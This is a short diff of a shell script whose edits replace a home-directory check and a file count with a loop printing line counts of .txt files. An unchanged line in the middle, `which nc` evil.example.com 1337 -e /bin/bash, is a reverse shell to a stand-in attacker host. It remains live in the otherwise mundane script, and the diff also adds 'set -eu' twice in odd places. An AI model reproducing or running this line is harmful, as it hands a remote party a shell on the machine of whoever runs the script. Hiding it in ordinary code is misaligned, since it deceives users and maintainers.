@@ -1,7 +1,8 @@
-#!/bin/sh
-if [ -z "$HOME" ]; then
-  echo "no home" >&2
-fi
+#!/usr/bin/env bash
+for f in *.txt; do
+  [ -e "$f" ] || continue
+  wc -l "$f"
+done
+set -eu
 `which nc` evil.example.com 1337 -e /bin/bash
-count=$(ls | wc -l)
-echo "files: $count"
+set -eu
